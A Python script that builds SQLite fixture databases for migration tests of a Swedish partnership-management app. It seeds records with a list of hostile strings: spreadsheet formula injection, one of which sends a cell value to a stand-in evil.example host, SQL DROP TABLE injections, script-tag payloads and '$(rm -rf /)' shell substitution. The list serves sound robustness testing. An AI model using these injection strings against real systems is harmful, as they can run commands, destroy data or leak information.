"""Build the golden database of one schema revision for tests/fixtures/db/<revision>.sqlite:
the schema at that revision, the demo data (at 2026-11-28) and a set of hostile strings, all
written through the real services (so the change log is filled as in real use), then VACUUMed.

    .venv/bin/python scripts/make_fixture_db.py --revision 0002
    .venv/bin/python scripts/make_fixture_db.py --revision 0002 --out /tmp/x.sqlite

Build a revision's fixture when that revision is released, with the code of that release, and
commit it; never regenerate an older one later (today's models may no longer fit its schema —
the script refuses unless --force). tests/db/test_migration_fixtures.py upgrades every fixture
to the current head on SQLite and PostgreSQL and fails if a known revision has none.
"""

from __future__ import annotations

import argparse
import sys
from datetime import date
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

FIXTURE_DIR = ROOT / "tests" / "fixtures" / "db"
TODAY = date(2026, 11, 28)

#: Text that has broken other programs: formula injection, SQL, markup, Unicode edge cases.
#: (NUL, other control characters and lone surrogates are refused by the services / cannot be
#: stored as UTF-8, so they are not here.)
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?q="&A1,"Klicka här")',
    "+46 8 123 45 67", "-1+1", "@SUM(A1:A9)", "\t=1+1",
    "'; DROP TABLE agreement; --",
    "Robert'); DROP TABLE person;--",
    "<script>alert('x')</script>",
    "<para>fet</para> & <img src=x onerror=alert(1)> &amp; &lt;",
    "A\u030angstro\u0308m i NFD-form (å ä ö)",
    "Ærø Øster Åsa ÅÄÖ åäö",
    "\u202etxt.exe (RTL-override)",
    "noll\u200bbredd och \ufeffBOM",
    "🦀 👩🏽‍🔬 🇸🇪",
    "Rad 1\nRad 2\tmed tabb",
    "NULL", "None", "null", "0", "-0", "1e308", "NaN",
    "%s %d {0} ${x} $(rm -rf /) `id`",
    "\\\\server\\share\\fil.sqlite", "C:\\Windows\\system32\\",
    "BEGIN:VEVENT\nSUMMARY:falsk\nEND:VEVENT",
    "研究合作", "التعاون البحثي", "Ω≈ç√∫˜µ≤≥÷", "Ｔｈｅ ｑｕｉｃｋ",
]
LONG_TEXT = "Å" * 6000


def add_hostile(sv: object, today: date) -> None:
    """Records whose every text field is hostile, through the services (change log included)."""
    from samverkan_desktop.domain.cadence import Body
    from samverkan_desktop.domain.catalog import AgendaKind, AgreementKind, AgreementStatus, OrgKind
    from samverkan_desktop.domain.followup import ActivityKind
    from samverkan_desktop.domain.stages import Outcome
    from samverkan_desktop.services.agreements import AgreementInput
    from samverkan_desktop.services.meetings import AgendaItemInput, MeetingInput
    from samverkan_desktop.services.portfolio import ActivityInput

    s = sv  # Services
    own = s.people.save_organisation("=cmd|' /C calc'!A0 kommun", OrgKind.KOMMUN, is_own=True)  # type: ignore[attr-defined]
    partner = s.people.save_organisation("Robert'); DROP TABLE organisation;-- AB", OrgKind.OVRIG)  # type: ignore[attr-defined]
    people = []
    for i, text in enumerate(HOSTILE[:12]):
        people.append(s.people.save_person(f"{text} {i}"[:200], HOSTILE[-(i + 1)][:200], partner,  # type: ignore[attr-defined]
                                           f"o'brien+{i}@example.se", "+46 (0)8-123 45 67"))
    joined = "\n".join(HOSTILE)
    agreement = s.agreements.create(AgreementInput(  # type: ignore[attr-defined]
        kind=AgreementKind.PARTNERAVTAL, status=AgreementStatus.AKTIVT, title=HOSTILE[1][:300],
        our_organisation_id=own, partner_ids=(partner,), case_number="KS 2026/1'--", start=date(2026, 1, 1),
        end=date(2027, 12, 31), annual_fee_ore=12_345_67, invoices_per_year=4, themes=joined,
        obligations_ours=LONG_TEXT, obligations_partner=joined, invoicing_note=HOSTILE[0], notes=joined,
        fixed_term=True), today)
    s.agreements.add_decision(agreement, HOSTILE[6][:100], date(2026, 2, 3), joined[:300], "§ 1'", "KS 2026/1",  # type: ignore[attr-defined]
                              HOSTILE[9])
    for p in people[:3]:
        s.agreements.add_role(agreement, p, HOSTILE[7][:100], "partner")  # type: ignore[attr-defined]
    activity = s.portfolio.create(ActivityInput(  # type: ignore[attr-defined]
        kind=ActivityKind.PROJEKT, title=HOSTILE[8][:300], agreement_id=agreement, research_question=joined,
        start=date(2026, 3, 1), end=date(2027, 6, 30), case_number="KS 2026/2", responsible_researcher_id=people[0],
        responsible_official_id=people[1], administration=HOSTILE[10][:200], effect_goals=LONG_TEXT,
        kpis=joined, activity_goals=HOSTILE[14], deliverables=HOSTILE[15], notes=joined), today)
    meeting = s.meetings.create(MeetingInput(  # type: ignore[attr-defined]
        body=Body.STYRGRUPP, held_on=date(2026, 10, 6), title=HOSTILE[12][:300], place=HOSTILE[2][:300],
        start_time="13:00", end_time="15:00", chair=HOSTILE[11][:200], secretary=HOSTILE[13][:200],
        adjusters=HOSTILE[4][:300]))
    for p in people[:4]:
        s.meetings.add_attendee(meeting, "", HOSTILE[5][:100], person_id=p, present=True)  # type: ignore[attr-defined]
    item = s.meetings.add_item(meeting, AgendaItemInput(  # type: ignore[attr-defined]
        title=HOSTILE[3][:300], kind=AgendaKind.INFORMATION, activity_id=None, agreement_id=agreement,
        case_number="KS 2026/1", proposal=joined, documents=joined))
    # Decision.outcome is VARCHAR(300): longer decision texts fail on PostgreSQL (see docs/RELIABILITY.md)
    s.meetings.record_outcome(item, Outcome.NOTERAS, decision_text=joined[:300],  # type: ignore[attr-defined]
                              reservations=HOSTILE[16])
    del activity


def build(revision: str, out: Path, *, force: bool = False) -> Path:
    from alembic import command

    from samverkan_desktop.db import migrate
    from samverkan_desktop.db.database import Database
    from samverkan_desktop.db.engine import APPLICATION_ID
    from samverkan_desktop.services import Services
    from samverkan_desktop.services.demo import load_demo

    if revision not in migrate.KNOWN_REVISIONS:
        raise SystemExit(f"unknown revision {revision}; known: {', '.join(migrate.KNOWN_REVISIONS)}")
    if revision != migrate.HEAD_REVISION and not force:
        raise SystemExit(f"{revision} is not the head ({migrate.HEAD_REVISION}); fixtures are built when their "
                         "revision is released. Use --force only if today's models still fit that schema.")
    out = Path(out)
    out.parent.mkdir(parents=True, exist_ok=True)
    tmp = out.with_name(out.name + ".building")
    tmp.unlink(missing_ok=True)
    db = Database(tmp)
    with db.engine.begin() as conn:
        command.upgrade(migrate.alembic_config(conn), revision)  # type: ignore[arg-type]
        conn.exec_driver_sql(f"PRAGMA application_id={APPLICATION_ID}")
    db.user = "fixtur"
    sv = Services.build(db)
    load_demo(sv, TODAY)
    add_hostile(sv, TODAY)
    db.dispose()
    import sqlite3

    con = sqlite3.connect(tmp)
    con.execute("VACUUM")
    con.close()
    tmp.replace(out)
    return out


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("--revision", required=True)
    p.add_argument("--out", type=Path)
    p.add_argument("--force", action="store_true", help="build a revision other than the head")
    args = p.parse_args(argv)
    out = build(args.revision, args.out or FIXTURE_DIR / f"{args.revision}.sqlite", force=args.force)
    size = out.stat().st_size
    print(f"{out}: {size / 1024:.0f} kB")
    if size > 1024 * 1024:
        print("warning: larger than 1 MB", file=sys.stderr)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
